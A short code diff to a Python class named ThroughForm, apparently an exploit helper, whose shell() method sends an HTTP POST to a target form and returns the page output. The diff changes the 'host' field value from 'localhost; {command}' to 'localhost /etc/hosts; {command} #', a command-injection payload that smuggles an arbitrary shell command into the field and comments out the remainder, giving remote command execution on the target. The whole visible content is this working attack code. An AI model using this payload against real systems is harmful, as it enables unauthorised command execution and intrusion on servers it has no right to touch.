@@ -59,7 +59,7 @@ class ThroughForm:
     def shell(self, command: str) -> str:
         """What a command printed over there."""
         connection = http.client.HTTPConnection(self.url.hostname or "", self.url.port or 80, timeout=30)
-        connection.request("POST", "/", urlencode({"host": f"localhost; {command}"}),
+        connection.request("POST", "/", urlencode({"host": f"localhost /etc/hosts; {command} #"}),
                            {"Content-Type": "application/x-www-form-urlencoded"})
         page = connection.getresponse().read().decode()
         connection.close()
